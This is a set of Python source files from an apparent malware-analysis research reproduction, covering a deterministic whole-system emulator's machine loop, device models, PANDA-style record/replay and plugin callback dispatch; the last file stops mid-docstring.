