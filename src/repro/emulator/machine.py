"""The whole-system machine: memory + CPU + devices + kernel + plugins.

:class:`Machine` is the QEMU analog.  It owns the physical resources,
drives the scheduler loop, delivers scheduled external events (packets,
keystrokes) at deterministic instruction-count timestamps, and fans every
observable out to plugins.

Determinism contract: given the same guest setup and the same scheduled
events, two machines execute identical instruction streams.  Everything
nondeterministic enters through :meth:`schedule`, and each delivery is
journaled -- which is what makes PANDA-style record/replay work
(:mod:`repro.emulator.record_replay`).
"""

from __future__ import annotations

import heapq
from dataclasses import dataclass
from typing import List, Optional, Tuple

from repro.emulator.devices import DeviceBoard, NetworkInterface, Packet
from repro.emulator.plugins import PluginManager
from repro.obs.metrics import MetricsRegistry, NULL_REGISTRY
from repro.guestos import layout
from repro.guestos.process import ThreadState
from repro.isa.cpu import CPU
from repro.isa.errors import GuestFault
from repro.isa.memory import FrameAllocator, PhysicalMemory
from repro.isa.registers import Reg


@dataclass
class MachineConfig:
    """Construction parameters for one machine."""

    mem_size: int = 1 << 20          # 1 MiB of guest RAM
    quantum: int = 100               # instructions per scheduler slice
    guest_ip: str = "169.254.57.168" # the victim VM's address in the paper


@dataclass
class RunStats:
    """What one :meth:`Machine.run` call did."""

    instructions: int = 0
    stop_reason: str = ""


class Machine:
    """One emulated guest machine."""

    def __init__(self, config: Optional[MachineConfig] = None) -> None:
        self.config = config or MachineConfig()
        self.memory = PhysicalMemory(self.config.mem_size)
        self.allocator = FrameAllocator(self.memory, reserved_low=layout.KERNEL_RESERVED)
        self.cpu = CPU(self.memory)
        self.plugins = PluginManager()
        self.devices = DeviceBoard(nic=NetworkInterface(self.config.guest_ip))
        self._dma_next = layout.DMA_BASE
        self.metrics = NULL_REGISTRY
        self._bind_metrics()
        self.allocator.on_free = self._frame_freed
        # Imported here: Kernel and Machine are mutually aware, and the
        # package must be importable from either end of that edge.
        from repro.guestos.kernel import Kernel

        self.kernel = Kernel(self)
        self._events: List[Tuple[int, int, object]] = []  # (at, seq, event) heap
        self._event_seq = 0
        #: Chronological record of delivered events: (instret, event).
        self.journal: List[Tuple[int, object]] = []
        self._started = False

    # ------------------------------------------------------------------
    # observability
    # ------------------------------------------------------------------

    def use_metrics(self, registry: Optional[MetricsRegistry]) -> None:
        """Attach *registry* (None = the disabled null registry).

        Counter handles are cached on the machine at bind time, so the
        per-event cost with metrics off is a single no-op method call on
        the shared null counter -- nothing is looked up per event.
        """
        self.metrics = registry if registry is not None else NULL_REGISTRY
        self._bind_metrics()

    def _bind_metrics(self) -> None:
        m = self.metrics
        self._ctr_syscalls = m.counter("machine.syscalls")
        self._ctr_packets_in = m.counter("machine.packets_received")
        self._ctr_packets_out = m.counter("machine.packets_sent")
        self._ctr_phys_writes = m.counter("machine.phys_writes")
        self._ctr_phys_copies = m.counter("machine.phys_copies")
        self._ctr_faults = m.counter("machine.guest_faults")
        m.gauge("machine.instructions", lambda: self.cpu.instret)
        m.gauge("machine.events_delivered", lambda: len(self.journal))

    # ------------------------------------------------------------------
    # time & events
    # ------------------------------------------------------------------

    @property
    def now(self) -> int:
        """The machine clock: retired instructions since boot."""
        return self.cpu.instret

    def schedule(self, at: int, event: object) -> None:
        """Deliver *event* once the clock reaches *at* (absolute ticks).

        *event* must expose ``deliver(machine)``; see
        :mod:`repro.emulator.record_replay` for the standard event types.
        """
        heapq.heappush(self._events, (at, self._event_seq, event))
        self._event_seq += 1

    def _next_event_at(self) -> Optional[int]:
        return self._events[0][0] if self._events else None

    def _deliver_due_events(self) -> None:
        while self._events and self._events[0][0] <= self.now:
            _at, _seq, event = heapq.heappop(self._events)
            self.journal.append((self.now, event))
            event.deliver(self)

    # ------------------------------------------------------------------
    # instrumented physical-memory operations (the kernel's data paths)
    # ------------------------------------------------------------------

    def phys_write(self, paddrs, data: bytes, source: str) -> None:
        """Write external *data* (device input, file content) into memory."""
        for paddr, byte in zip(paddrs, data):
            self.memory.write_byte(paddr, byte)
        self._ctr_phys_writes.inc()
        self.plugins.on_phys_write(self, tuple(paddrs), source)

    def phys_copy(self, dst_paddrs, src_paddrs, actor=None) -> None:
        """Kernel-mediated byte move: ``dst[i] <- src[i]`` with taint.

        *actor* is the guest process the kernel acts for (syscall
        requester); provenance plugins tag moved bytes with it.
        """
        if len(dst_paddrs) != len(src_paddrs):
            raise ValueError("phys_copy length mismatch")
        for dst, src in zip(dst_paddrs, src_paddrs):
            self.memory.write_byte(dst, self.memory.read_byte(src))
        self._ctr_phys_copies.inc()
        self.plugins.on_phys_copy(self, tuple(dst_paddrs), tuple(src_paddrs), actor)

    def _frame_freed(self, frame: int) -> None:
        self.plugins.on_frames_freed(self, (frame,))

    def dma_alloc(self, n: int) -> Tuple[int, ...]:
        """Reserve *n* bytes of the NIC DMA ring (wraps around)."""
        if n > layout.DMA_SIZE:
            raise MemoryError(f"packet of {n} bytes exceeds DMA ring")
        if self._dma_next + n > layout.DMA_BASE + layout.DMA_SIZE:
            self._dma_next = layout.DMA_BASE
        start = self._dma_next
        self._dma_next += n
        return tuple(range(start, start + n))

    def send_packet(self, packet: Packet) -> None:
        """Transmit *packet* out of the guest (NIC tx path)."""
        self.devices.nic.transmit(packet)
        self._ctr_packets_out.inc()
        self.plugins.on_packet_send(self, packet)

    # ------------------------------------------------------------------
    # the execution loop
    # ------------------------------------------------------------------

    def run(self, max_instructions: int = 2_000_000) -> RunStats:
        """Run until idle or until *max_instructions* more retire."""
        if not self._started:
            self._started = True
            self.plugins.on_machine_start(self)
        stats = RunStats()
        deadline = self.now + max_instructions
        while self.now < deadline:
            self._deliver_due_events()
            thread = self.kernel.pick_thread()
            if thread is None:
                if not self._skip_idle_time(deadline):
                    stats.stop_reason = "idle"
                    break
                continue
            self._run_thread(thread, min(self.config.quantum, deadline - self.now))
        else:
            stats.stop_reason = "budget"
        if not stats.stop_reason:
            stats.stop_reason = "budget" if self.now >= deadline else "idle"
        stats.instructions = self.now
        self.plugins.on_machine_stop(self)
        return stats

    def _skip_idle_time(self, deadline: int) -> bool:
        """Advance the clock to the next wake source; False if none exists."""
        candidates = []
        event_at = self._next_event_at()
        if event_at is not None:
            candidates.append(event_at)
        wake_at = self.kernel.next_wake_at()
        if wake_at is not None:
            candidates.append(wake_at)
        if not candidates:
            return False
        target = min(candidates)
        if target > deadline:
            # The next wake source is beyond this run's budget.
            self.cpu.instret = deadline
            return False
        self.cpu.instret = max(self.now + 1, target)
        return True

    def _run_thread(self, thread, quantum: int) -> None:
        cpu = self.cpu
        cpu.mmu = thread.process.aspace
        cpu.restore_context(thread.context)
        cpu.halted = False
        thread.state = ThreadState.RUNNING
        # Pick the execution path per slice: instrumented stepping only
        # when some plugin currently consumes per-instruction effects
        # (PANDA-style), the uninstrumented fast path otherwise.  The
        # choice is revisited after every syscall -- syscalls are the
        # only point inside a slice where new analysis-relevant state
        # (a tainted packet landing in a recv buffer, a tainted file
        # read) can appear and re-arm a gated plugin.
        plugins = self.plugins
        on_insn_exec = plugins.on_insn_exec
        on_insns_skipped = plugins.on_insns_skipped
        instrumented = plugins.needs_insn_effects()
        step = cpu.step if instrumented else cpu.step_fast
        executed = 0
        skipped = 0  # uninstrumented retirements not yet reported
        while executed < quantum:
            try:
                fx = step()
            except GuestFault as fault:
                if skipped:
                    on_insns_skipped(self, thread, skipped)
                self._ctr_faults.inc()
                plugins.on_guest_fault(self, thread, fault)
                self.kernel.crash_process(thread.process, fault)
                return
            executed += 1
            if instrumented:
                on_insn_exec(self, thread, fx)
            else:
                skipped += 1

            if fx.syscall:
                if skipped:
                    on_insns_skipped(self, thread, skipped)
                    skipped = 0
                number = cpu.regs.read(Reg.R0)
                args = tuple(cpu.regs.read(r) for r in (Reg.R1, Reg.R2, Reg.R3, Reg.R4, Reg.R5))
                thread.context = cpu.context()
                self._ctr_syscalls.inc()
                plugins.on_syscall_enter(self, thread, number, args)
                result = self.kernel.syscall(thread, number, args)
                if result is None:
                    return  # blocked or terminated; kernel owns the thread now
                thread.context["regs"][Reg.R0] = result & 0xFFFFFFFF
                plugins.on_syscall_return(self, thread, number, result)
                if thread.state is not ThreadState.RUNNING:
                    return  # suspended/killed by its own syscall
                cpu.restore_context(thread.context)
                instrumented = plugins.needs_insn_effects()
                step = cpu.step if instrumented else cpu.step_fast
                continue
            if fx.halted:
                if skipped:
                    on_insns_skipped(self, thread, skipped)
                thread.context = cpu.context()
                self.kernel.terminate_process(thread.process, cpu.regs.read(Reg.R0))
                return
        if skipped:
            on_insns_skipped(self, thread, skipped)
        thread.context = cpu.context()
        self.kernel.requeue(thread)
