"""Device models: NIC, keyboard, audio source, screen.

Devices are the machine's sources of nondeterminism.  Each one is a plain
queue or generator the kernel drains through syscalls; the record/replay
journal captures everything that enters these queues, which is what makes
replay deterministic (the PANDA property FAROS depends on).

Network addressing uses dotted-quad strings and integer ports so reports
read like the paper's (e.g. ``169.254.26.161:4444``).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from repro.faults.errors import DeviceFault


@dataclass(frozen=True)
class Packet:
    """One network datagram/segment as seen on the wire."""

    src_ip: str
    src_port: int
    dst_ip: str
    dst_port: int
    payload: bytes

    @property
    def flow(self) -> Tuple[str, int, str, int]:
        """The 4-tuple identifying this packet's netflow."""
        return (self.src_ip, self.src_port, self.dst_ip, self.dst_port)

    def __repr__(self) -> str:
        return (
            f"Packet({self.src_ip}:{self.src_port} -> "
            f"{self.dst_ip}:{self.dst_port}, {len(self.payload)} bytes)"
        )


class NetworkInterface:
    """The guest NIC: a receive queue and a transmit log.

    Received packets are queued by the machine's event delivery and
    drained by the kernel's network stack; transmitted packets accumulate
    in :attr:`tx_log` where sandbox baselines (and tests) can observe
    guest traffic, mirroring Cuckoo's packet capture.

    Payload delivery into guest memory goes through
    ``Machine.phys_write`` on the DMA ring: both the data landing and
    the netflow tag insertion it triggers are *bulk* slice operations
    (one per touched guest page), so a packet costs O(pages), not
    O(payload bytes), on the taint side.
    """

    def __init__(self, ip: str = "169.254.57.168") -> None:
        self.ip = ip
        self.rx_queue: List[Packet] = []
        self.tx_log: List[Packet] = []

    def receive(self, packet: Packet) -> None:
        """Queue an inbound packet for the kernel to deliver."""
        self.rx_queue.append(packet)

    def transmit(self, packet: Packet) -> None:
        """Record an outbound packet."""
        self.tx_log.append(packet)

    def pop_rx(self) -> Optional[Packet]:
        """Dequeue the oldest pending inbound packet, if any."""
        return self.rx_queue.pop(0) if self.rx_queue else None


class Keyboard:
    """A keystroke source; the host (or journal) types into it."""

    def __init__(self) -> None:
        self._pending = bytearray()

    def type_keys(self, text: bytes) -> None:
        """Queue *text* as if the user typed it."""
        self._pending += text

    def read(self, n: int) -> bytes:
        """Consume up to *n* queued keystrokes."""
        out = bytes(self._pending[:n])
        del self._pending[:n]
        return out

    @property
    def pending(self) -> int:
        return len(self._pending)


class AudioSource:
    """A deterministic microphone: an LCG-generated sample stream.

    Real audio input is nondeterministic; here the stream is a pure
    function of the seed so recordings replay exactly.  The generator
    state is part of the device, so successive reads return successive
    samples as a real capture device would.
    """

    def __init__(self, seed: int = 0x5EED) -> None:
        self._state = seed & 0xFFFFFFFF

    def read(self, n: int) -> bytes:
        out = bytearray(n)
        state = self._state
        for i in range(n):
            state = (1103515245 * state + 12345) & 0xFFFFFFFF
            out[i] = (state >> 16) & 0xFF
        self._state = state
        return bytes(out)


class ScreenDevice:
    """A tiny framebuffer the guest can read (remote-desktop workloads).

    Guests 'draw' by writing via a syscall and capture via reads, which
    is all the remote-desktop behaviour simulation needs: bytes flowing
    from a local device out over a socket.
    """

    def __init__(self, size: int = 1024) -> None:
        self.framebuffer = bytearray(size)

    def draw(self, offset: int, data: bytes) -> None:
        end = offset + len(data)
        if offset < 0 or end > len(self.framebuffer):
            raise DeviceFault("screen", "draw outside framebuffer")
        self.framebuffer[offset:end] = data

    def capture(self, offset: int, n: int) -> bytes:
        if offset < 0 or offset + n > len(self.framebuffer):
            raise DeviceFault("screen", "capture outside framebuffer")
        return bytes(self.framebuffer[offset : offset + n])


@dataclass
class DeviceBoard:
    """All devices of one machine, grouped for construction/reset."""

    nic: NetworkInterface = field(default_factory=NetworkInterface)
    keyboard: Keyboard = field(default_factory=Keyboard)
    audio: AudioSource = field(default_factory=AudioSource)
    screen: ScreenDevice = field(default_factory=ScreenDevice)
