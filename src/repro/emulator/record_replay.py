"""PANDA-style deterministic record/replay.

The paper's workflow (§V-C): run the malware once in a recording VM
(cheap), then *replay* the recording with the heavyweight FAROS taint
plugin attached.  This module reproduces that shape:

* a :class:`Scenario` bundles the guest setup (images, processes) with
  the scheduled nondeterministic inputs (packets, keystrokes);
* :func:`record` executes it once and captures the delivery journal;
* :func:`replay` re-executes with analysis plugins attached and verifies
  the execution did not diverge (same final instruction count), raising
  :class:`ReplayDivergence` otherwise.

Because every nondeterministic input enters through the machine's event
queue at an instruction-count timestamp, replays are bit-identical --
the property whole-system taint analysis needs to observe "the same"
execution it recorded.

The recording run usually executes through the basic-block translation
cache (:mod:`repro.isa.translate`) while the analysis replay steps
instruction-at-a-time with plugins attached.  That asymmetry is safe by
construction: block execution retires the same instruction stream at
the same clock ticks as interpretation, so journals, divergence checks,
and the faulted-replay *prefix rule* below are unaffected by which path
either run happened to take.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, List, Optional, Sequence, Tuple

from repro.emulator.devices import Packet
from repro.emulator.machine import Machine, MachineConfig, RunStats
from repro.emulator.plugins import Plugin


@dataclass(frozen=True)
class PacketEvent:
    """An inbound packet from the outside world (the attacker machine)."""

    packet: Packet

    def deliver(self, machine: Machine) -> None:
        machine.kernel.deliver_packet(self.packet)

    def __repr__(self) -> str:
        return f"PacketEvent({self.packet!r})"


@dataclass(frozen=True)
class KeystrokeEvent:
    """The (simulated) user typing at the guest keyboard."""

    text: bytes

    def deliver(self, machine: Machine) -> None:
        machine.devices.keyboard.type_keys(self.text)

    def __repr__(self) -> str:
        return f"KeystrokeEvent({self.text!r})"


@dataclass
class Scenario:
    """A reproducible guest workload.

    :ivar setup: callable that prepares the machine -- registers images,
        spawns processes, seeds files.  It must be deterministic.
    :ivar events: ``(at_tick, event)`` pairs delivered during execution.
    :ivar max_instructions: execution budget per run.
    """

    name: str
    setup: Callable[[Machine], None]
    events: Sequence[Tuple[int, object]] = ()
    config: Optional[MachineConfig] = None
    max_instructions: int = 2_000_000

    def build(self, plugins: Sequence[Plugin] = (), metrics=None) -> Machine:
        """Construct a fresh machine with *plugins* attached.

        Plugins are registered *before* setup so they observe boot-time
        events (initial process creation, module loads) -- FAROS needs
        the kernel-module load event to plant export-table tags.

        *metrics* is an optional
        :class:`~repro.obs.metrics.MetricsRegistry` the machine binds
        its event counters into (None keeps the zero-cost null
        registry).
        """
        machine = Machine(self.config)
        if metrics is not None:
            machine.use_metrics(metrics)
        for plugin in plugins:
            machine.plugins.register(plugin)
        self.setup(machine)
        for at, event in self.events:
            machine.schedule(at, event)
        return machine

    def run(self, plugins: Sequence[Plugin] = (), metrics=None) -> Machine:
        """Build and run to completion; returns the finished machine."""
        machine = self.build(plugins, metrics=metrics)
        machine.run(self.max_instructions)
        return machine


@dataclass
class Recording:
    """The artifact of :func:`record`: scenario + what actually happened.

    ``scenario`` is None for warm recordings made from a machine
    snapshot (:func:`repro.emulator.snapshot.snapshot_record`) -- those
    replay through the snapshot, not by rebuilding a scenario.
    """

    scenario: Optional[Scenario]
    journal: List[Tuple[int, object]]
    final_instret: int
    stats: RunStats


class ReplayDivergence(Exception):
    """A replay did not reproduce the recorded execution."""


def record(scenario: Scenario, plugins: Sequence[Plugin] = (), metrics=None) -> Recording:
    """Execute *scenario* once (cheaply) and capture its journal.

    *plugins* here are lightweight observers (e.g. a syscall tracer);
    the expensive analysis belongs in :func:`replay`.
    """
    machine = scenario.build(plugins, metrics=metrics)
    stats = machine.run(scenario.max_instructions)
    return Recording(
        scenario=scenario,
        journal=list(machine.journal),
        final_instret=machine.now,
        stats=stats,
    )


def replay(
    recording: Recording,
    plugins: Sequence[Plugin] = (),
    verify: bool = True,
    metrics=None,
) -> Machine:
    """Re-execute a recording with analysis *plugins* attached.

    With *verify* (default), raises :class:`ReplayDivergence` if the
    replay retires a different number of instructions or delivers a
    different event sequence than the recording -- the smoke test that
    determinism held.
    """
    machine = recording.scenario.build(plugins, metrics=metrics)
    machine.run(recording.scenario.max_instructions)
    if verify:
        verify_replay(recording, machine)
    return machine


def verify_replay(recording: Recording, machine: Machine) -> None:
    """The divergence check :func:`replay` applies, as a reusable piece.

    Warm (snapshot-forked) replays share this exact logic -- including
    the faulted-prefix rule -- via
    :func:`repro.emulator.snapshot.snapshot_replay`.
    """
    recorded = [(at, repr(ev)) for at, ev in recording.journal]
    replayed = [(at, repr(ev)) for at, ev in machine.journal]
    if machine.fault is not None or recording.stats.fault is not None:
        # A faulted run stops at the fault, so the replay may retire
        # fewer instructions than the recording did (analysis plugins
        # can trip replay-only faults, e.g. a taint budget that only
        # exists when FAROS is attached).  Determinism still requires
        # the replayed execution to be a *prefix* of the recording.
        if machine.now > recording.final_instret:
            raise ReplayDivergence(
                f"faulted replay retired {machine.now} instructions, "
                f"past the recording's {recording.final_instret}"
            )
        if replayed != recorded[: len(replayed)]:
            raise ReplayDivergence(
                "faulted replay delivered events the recording did not"
            )
    else:
        if machine.now != recording.final_instret:
            raise ReplayDivergence(
                f"replay retired {machine.now} instructions, "
                f"recording retired {recording.final_instret}"
            )
        if recorded != replayed:
            raise ReplayDivergence("replay delivered a different event sequence")
