"""The whole-system emulator: machine, devices, plugins, record/replay.

This package plays the role QEMU+PANDA play for the original FAROS:

* :class:`~repro.emulator.machine.Machine` owns physical memory, the CPU,
  the device models and the guest kernel, and drives the execution loop.
* :class:`~repro.emulator.plugins.Plugin` defines the callback surface
  through which analyses observe execution without perturbing it --
  per-instruction effects, syscall entry/exit, process lifecycle, module
  loads, packet delivery, and kernel-mediated physical copies.
* :mod:`~repro.emulator.record_replay` provides PANDA-style deterministic
  record/replay: a scenario is executed once while journaling all
  nondeterministic inputs, then replayed with heavyweight analysis
  plugins (FAROS) attached.
"""

from repro.emulator.devices import (
    AudioSource,
    Keyboard,
    NetworkInterface,
    Packet,
    ScreenDevice,
)
from repro.emulator.machine import Machine, MachineConfig
from repro.emulator.plugins import Plugin, PluginManager
from repro.emulator.record_replay import (
    KeystrokeEvent,
    PacketEvent,
    Recording,
    ReplayDivergence,
    Scenario,
    record,
    replay,
)

__all__ = [
    "AudioSource",
    "Keyboard",
    "KeystrokeEvent",
    "Machine",
    "MachineConfig",
    "NetworkInterface",
    "Packet",
    "PacketEvent",
    "Plugin",
    "PluginManager",
    "Recording",
    "ReplayDivergence",
    "Scenario",
    "ScreenDevice",
    "record",
    "replay",
]
