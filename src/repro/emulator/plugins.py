"""The plugin callback architecture (PANDA analog).

PANDA's key architectural contribution is a callback registry that lets
analysis plugins observe whole-system execution -- instruction execution,
syscalls, OS events -- without modifying the emulator.  This module
reproduces that shape: :class:`Plugin` declares every observation point as
a no-op method, and :class:`PluginManager` fans events out to registered
plugins in registration order.

Registration order matters for FAROS: the taint tracker must see each
instruction *after* detection logic has inspected pre-propagation shadow
state, so the FAROS plugin registers its detector with the tracker rather
than ordering against it (see :mod:`repro.taint.tracker`).
"""

from __future__ import annotations

import warnings
from typing import TYPE_CHECKING, Callable, Dict, Iterable, List, Sequence, Tuple

if TYPE_CHECKING:  # pragma: no cover - import cycle guards, typing only
    from repro.emulator.devices import Packet
    from repro.emulator.machine import Machine
    from repro.guestos.loader import Module
    from repro.guestos.process import Process, Thread
    from repro.isa.cpu import InstructionEffects


class Plugin:
    """Base class for emulator plugins; override the callbacks you need.

    Every callback receives the :class:`~repro.emulator.machine.Machine`
    first, mirroring PANDA's convention of passing the CPU state pointer
    to every callback.
    """

    #: Human-readable plugin name (defaults to the class name).
    name: str = ""

    def __init__(self) -> None:
        if not self.name:
            self.name = type(self).__name__

    # -- machine lifecycle -------------------------------------------------------

    def on_machine_start(self, machine: "Machine") -> None:
        """The machine is about to execute its first instruction."""

    def on_machine_stop(self, machine: "Machine") -> None:
        """The machine stopped (all work done or budget exhausted)."""

    # -- execution ----------------------------------------------------------------

    def on_insn_exec(
        self, machine: "Machine", thread: "Thread", fx: "InstructionEffects"
    ) -> None:
        """One instruction retired on *thread*; *fx* describes its effects."""

    def wants_insn_effects(self) -> bool:
        """Does this plugin *currently* need per-instruction effects?

        The machine asks at every scheduler slice (and again after each
        syscall, the only in-slice point where analysis-relevant state
        can appear).  The default is static: True iff the class overrides
        :meth:`on_insn_exec`.  Plugins whose need is state-dependent --
        the taint tracker is dormant until the first tainted byte exists
        -- override this to gate the emulator onto its uninstrumented
        fast path while they have nothing to observe.
        """
        return type(self).on_insn_exec is not Plugin.on_insn_exec

    def block_taint_unit(self):
        """The taint engine this plugin's instrumentation reduces to, if any.

        The machine asks whenever :meth:`wants_insn_effects` answered
        True.  A plugin whose *entire* per-instruction need is Table I
        taint propagation (the taint tracker itself, or FAROS wrapping
        one) returns its :class:`~repro.taint.tracker.TaintTracker`;
        the block translator can then run the slice block-at-a-time
        through fused taint closures (the translated-tainted dispatch
        tier) instead of dropping to the per-instruction interpreter.
        The default ``None`` means "I need the real effect stream" and
        forces interpreter stepping -- the correct answer for any plugin
        that inspects :class:`~repro.isa.cpu.InstructionEffects` in ways
        the taint tier does not reproduce (e.g. the reference tracker,
        trace recorders, custom analyses).
        """
        return None

    def on_insns_skipped(self, machine: "Machine", thread: "Thread", count: int) -> None:
        """*count* instructions retired on the uninstrumented fast path.

        Delivered in bulk (per slice, or up to each syscall) when every
        plugin's :meth:`wants_insn_effects` answered False, so counters
        that account for all retirements stay accurate.  No effects are
        available for these instructions by construction.
        """

    def on_guest_fault(self, machine: "Machine", thread: "Thread", fault: Exception) -> None:
        """*thread* raised a guest fault (the kernel will kill the process)."""

    def on_machine_fault(self, machine: "Machine", record) -> None:
        """A machine-level fault was recorded (terminal, or an injected
        non-terminal one).  *record* is a
        :class:`~repro.faults.errors.FaultRecord`; analysis plugins use
        it to mark their reports degraded."""

    # -- syscalls (the syscalls2 surface) ------------------------------------------

    def on_syscall_enter(
        self, machine: "Machine", thread: "Thread", number: int, args: Sequence[int]
    ) -> None:
        """A SYSCALL instruction trapped, before the kernel runs it."""

    def on_syscall_return(
        self, machine: "Machine", thread: "Thread", number: int, result: int
    ) -> None:
        """The kernel finished a syscall (blocking calls report on completion)."""

    # -- OS introspection (the OSI surface) -----------------------------------------

    def on_process_create(self, machine: "Machine", process: "Process") -> None:
        """A new process exists (possibly created suspended)."""

    def on_process_exit(self, machine: "Machine", process: "Process", status: int) -> None:
        """A process terminated with *status*."""

    def on_module_load(self, machine: "Machine", process: "Process", module: "Module") -> None:
        """*module* (and its export table) became mapped into *process*."""

    # -- data movement the CPU does not see ------------------------------------------

    def on_phys_write(
        self, machine: "Machine", paddrs: Sequence[int], source: str
    ) -> None:
        """External data (DMA, device input, image load) landed at *paddrs*.

        *source* is a short origin label, e.g. ``"nic"``, ``"keyboard"``,
        ``"image:evil.exe"``; taint plugins decide from it whether the
        write clears or seeds shadow state.
        """

    def on_phys_copy(
        self,
        machine: "Machine",
        dst_paddrs: Sequence[int],
        src_paddrs: Sequence[int],
        actor: "Process" = None,
    ) -> None:
        """The kernel moved bytes (syscall buffer copy, cross-process write).

        ``dst_paddrs[i]`` received the byte at ``src_paddrs[i]``; whole-
        system taint engines must apply their copy rule per byte here,
        because these moves happen inside the kernel where no guest
        instruction is executed.  *actor* is the process on whose behalf
        the kernel moved the bytes (the syscall requester), so provenance
        engines can append its process tag -- that is how the injecting
        process ends up in an injected byte's chronology.
        """

    def on_frames_freed(self, machine: "Machine", frames: Sequence[int]) -> None:
        """Physical *frames* were returned to the allocator (process exit,
        unmap).  Shadow state for those bytes is now stale and must drop."""

    # -- network / file observation ---------------------------------------------------

    def on_packet_receive(
        self, machine: "Machine", packet: "Packet", paddrs: Sequence[int]
    ) -> None:
        """*packet* arrived; its payload now occupies the DMA bytes *paddrs*."""

    def on_packet_send(self, machine: "Machine", packet: "Packet") -> None:
        """The guest transmitted *packet* (observable by sandboxes)."""

    def on_file_read(
        self,
        machine: "Machine",
        process: "Process",
        path: str,
        version: int,
        paddrs: Sequence[int],
    ) -> None:
        """File *path* content was read into memory at *paddrs*."""

    def on_file_write(
        self,
        machine: "Machine",
        process: "Process",
        path: str,
        version: int,
        paddrs: Sequence[int],
    ) -> None:
        """Buffer bytes at *paddrs* were written into file *path*."""


#: Every observation point on the Plugin base class.  Computed once at
#: import: the hook vocabulary is the class surface, not per-instance.
HOOK_NAMES: Tuple[str, ...] = tuple(
    sorted(name for name in vars(Plugin) if name.startswith("on_"))
)


def _noop(*args) -> None:
    """The dispatcher for a hook no registered plugin overrides."""


def _fan(handlers: List[Callable]) -> Callable:
    """A callable invoking *handlers* in order (specialised small cases)."""
    if not handlers:
        return _noop
    if len(handlers) == 1:
        return handlers[0]

    def fan(*args) -> None:
        for handler in handlers:
            handler(*args)

    return fan


class PluginManager:
    """Dispatches machine events to plugins in registration order.

    Dispatch is **precomputed**: :meth:`register` walks the hook surface
    once and, for every hook the plugin actually overrides, appends its
    bound method to that hook's dispatch list.  Each hook is then
    exposed as a plain attribute -- ``manager.on_syscall_enter(machine,
    thread, number, args)`` -- whose call cost is the handlers
    themselves: no string lookup, no ``getattr``, and no visits to
    plugins that would only run the base-class no-op.  A hook nobody
    overrides dispatches to a shared no-op, and a hook exactly one
    plugin overrides dispatches *directly to its bound method*, which is
    what keeps the per-instruction path (``on_insn_exec``) flat.

    A plugin participates in a hook when ``getattr(plugin, name)`` is
    not the inherited :class:`Plugin` no-op -- a class override or a
    callable assigned on the instance both count, but instance
    assignment must happen *before* :meth:`register` (the lists are not
    rebuilt when a registered plugin mutates).

    The legacy string-keyed :meth:`dispatch` survives as a deprecated
    shim over the same precomputed lists.
    """

    def __init__(self) -> None:
        self._plugins: List[Plugin] = []
        self._handlers: Dict[str, List[Callable]] = {}
        self._rebuild()

    @property
    def plugins(self) -> Tuple[Plugin, ...]:
        return tuple(self._plugins)

    def _rebuild(self) -> None:
        """Recompute every hook's dispatch list and its fan attribute."""
        handlers: Dict[str, List[Callable]] = {name: [] for name in HOOK_NAMES}
        for plugin in self._plugins:
            for name in HOOK_NAMES:
                # A bound method's __func__ is its class function; a
                # callable assigned on the instance has no __func__ and
                # compares as itself.  Either way, anything that is not
                # the Plugin base no-op participates in the hook.
                hook = getattr(plugin, name)
                if getattr(hook, "__deprecated_channel_shim__", False):
                    # Legacy tracker channel methods kept as warning
                    # shims for out-of-tree callers: the plugin's
                    # auto-registered TaintPipeline owns the channel
                    # hooks now, so wiring the shim too would both
                    # double-apply every event and trip the warning
                    # filter from inside the machine.
                    continue
                if getattr(hook, "__func__", hook) is not getattr(Plugin, name):
                    handlers[name].append(hook)
        self._handlers = handlers
        for name, hooked in handlers.items():
            setattr(self, name, _fan(hooked))

    def _attach(self, plugin: Plugin) -> None:
        """Append *plugin*, auto-registering its taint pipeline first.

        A plugin exposing a ``pipeline`` with the ``is_taint_pipeline``
        marker (the taint trackers, FAROS) gets that transport inserted
        *ahead* of itself: the pipeline's ``wants_insn_effects`` is the
        drain barrier, and it must run before its owner probes shadow
        state, or a queued taint seed could leave a slice
        under-instrumented.
        """
        pipeline = getattr(plugin, "pipeline", None)
        if (
            pipeline is not None
            and getattr(pipeline, "is_taint_pipeline", False)
            and pipeline not in self._plugins
        ):
            self._plugins.append(pipeline)
        self._plugins.append(plugin)

    def register(self, plugin: Plugin) -> Plugin:
        """Attach *plugin* and precompute its hook dispatch; returns it
        for chaining.  Plugins carrying a taint pipeline get it
        registered immediately ahead of them (see :meth:`_attach`)."""
        self._attach(plugin)
        self._rebuild()
        return plugin

    def register_all(self, plugins: Iterable[Plugin]) -> None:
        for plugin in plugins:
            self._attach(plugin)
        self._rebuild()

    def unregister(self, plugin: Plugin) -> None:
        self._plugins.remove(plugin)
        pipeline = getattr(plugin, "pipeline", None)
        if pipeline is not None and pipeline in self._plugins:
            self._plugins.remove(pipeline)
        self._rebuild()

    def handlers(self, hook: str) -> Tuple[Callable, ...]:
        """The precomputed dispatch list for *hook* (introspection)."""
        return tuple(self._handlers[hook])

    def dispatch(self, callback: str, *args) -> None:
        """Deprecated: invoke *callback* on every plugin overriding it.

        Use the per-hook dispatcher attribute instead, e.g.
        ``manager.on_syscall_enter(...)`` -- same semantics, no string
        key, no per-call hook lookup.
        """
        warnings.warn(
            "PluginManager.dispatch(name, ...) is deprecated; call the "
            f"precomputed per-hook dispatcher (manager.{callback}(...)) instead",
            DeprecationWarning,
            stacklevel=2,
        )
        for handler in self._handlers[callback]:
            handler(*args)

    def needs_insn_effects(self) -> bool:
        """True if any plugin currently wants per-instruction effects.

        When nothing instruments instructions the machine runs the
        CPU's uninstrumented fast path -- the analog of QEMU executing
        translated blocks without PANDA callbacks compiled in.  Each
        plugin answers via :meth:`Plugin.wants_insn_effects`, which may
        be state-dependent (the taint tracker declines while the system
        holds no taint).
        """
        return any(plugin.wants_insn_effects() for plugin in self._plugins)

    def insn_effects_plan(self) -> Tuple[str, object]:
        """How the machine should execute the next slice.

        Returns one of three ``(mode, unit)`` pairs:

        * ``("none", None)`` -- no plugin wants per-instruction effects:
          run the uninstrumented path (translated blocks / step_fast);
        * ``("taint", tracker)`` -- every effects-wanting plugin reduces
          to the *same* taint engine (:meth:`Plugin.block_taint_unit`):
          run the translated-tainted tier, with fused propagation
          closures standing in for the effect stream;
        * ``("full", None)`` -- at least one plugin needs the real
          :class:`~repro.isa.cpu.InstructionEffects` stream (or two
          plugins want different taint engines): step the interpreter
          and fan out ``on_insn_exec``.

        The taint tier must be exactly equivalent to interpreter
